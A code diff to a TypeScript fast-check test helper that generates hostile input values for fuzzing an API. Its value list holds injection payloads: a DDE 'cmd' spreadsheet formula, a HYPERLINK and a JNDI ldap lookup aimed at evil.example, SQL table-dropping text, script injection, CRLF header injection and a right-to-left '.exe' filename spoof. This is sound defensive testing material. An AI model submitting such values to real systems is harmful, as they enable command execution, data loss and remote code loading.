@@ -10,7 +10,7 @@ const deep = (levels: number): unknown => {
   return value;
 };
 
-const TEXTS: readonly string[] = [
+export const TEXTS: readonly string[] = [
   '',
   ' ',
   'null',
@@ -18,6 +18,7 @@ const TEXTS: readonly string[] = [
   `${MARK}\u0000`,
   `${MARK}\r\nBcc: everybody@people.example`,
   `=HYPERLINK("https://evil.example/${MARK}")`,
+  `=cmd|' /C calc'!A0 ${MARK}`,
   `<script>alert('${MARK}')</script>`,
   `'; DROP TABLE mentorships; -- ${MARK}`,
   `\${jndi:ldap://evil.example/${MARK}}`,
@@ -42,11 +43,15 @@ const TEXTS: readonly string[] = [
   '+275760-09-13T00:00:00.001Z',
   'https://',
   'https://user:password@people.example:99999/',
+  `https://people.example/${MARK}\u202egnp.exe`,
+  `https://people.example/${MARK}\r\nBcc: everybody@people.example`,
+  `https://people.example/${MARK}\udfff`,
+  `https://${MARK}@people.example/?q="><script>alert(1)</script>`,
   `javascript:alert('${MARK}')`,
   `data:text/html,${MARK}`,
 ];
 
-const NUMBERS: readonly number[] = [
+export const NUMBERS: readonly number[] = [
   0,
   -0,
   -1,
@@ -62,12 +67,18 @@ const NUMBERS: readonly number[] = [
   100_000_000_001,
 ];
 
+/** Any characters, halves of them too. What fast-check has for it takes seconds to make ready. */
+const anyText = (maxLength: number): fc.Arbitrary<string> =>
+  fc
+    .array(fc.oneof(fc.nat(0xff), fc.nat(0xffff), fc.nat(0x10ffff)), { maxLength })
+    .map((points) => String.fromCodePoint(...points));
+
 /** Values of every kind that fit hardly any field. */
 export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 6, arbitrary: fc.constantFrom(...TEXTS) },
   { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
   { weight: 1, arbitrary: fc.maxSafeInteger() },
-  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
+  { weight: 2, arbitrary: anyText(40) },
   {
     weight: 2,
     arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], { length: 1e9 }),
@@ -94,10 +105,7 @@ export const hostileKey: fc.Arbitrary<string> = fc.constantFrom(
   ...['personId', 'organizationId', 'a/b~c', '\u0000', '\ud83d', 'x'.repeat(5000)],
 );
 
-export const hostileText: fc.Arbitrary<string> = fc.oneof(
-  fc.constantFrom(...TEXTS),
-  fc.string({ unit: 'binary', maxLength: 40 }),
-);
+export const hostileText: fc.Arbitrary<string> = fc.oneof(fc.constantFrom(...TEXTS), anyText(40));
 
 /** Bodies that are no JSON, or JSON of a kind that `JSON.stringify` never writes. */
 export const hostileBody: fc.Arbitrary<string> = fc.oneof(
@@ -128,7 +136,7 @@ export const hostileBody: fc.Arbitrary<string> = fc.oneof(
     `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
     `{"text":"${'x'.repeat(262_145)}"}`,
   ),
-  fc.string({ unit: 'binary', maxLength: 200 }),
+  anyText(200),
 );
 
 /** Headers beside the usual ones, in place of them, or without them. */
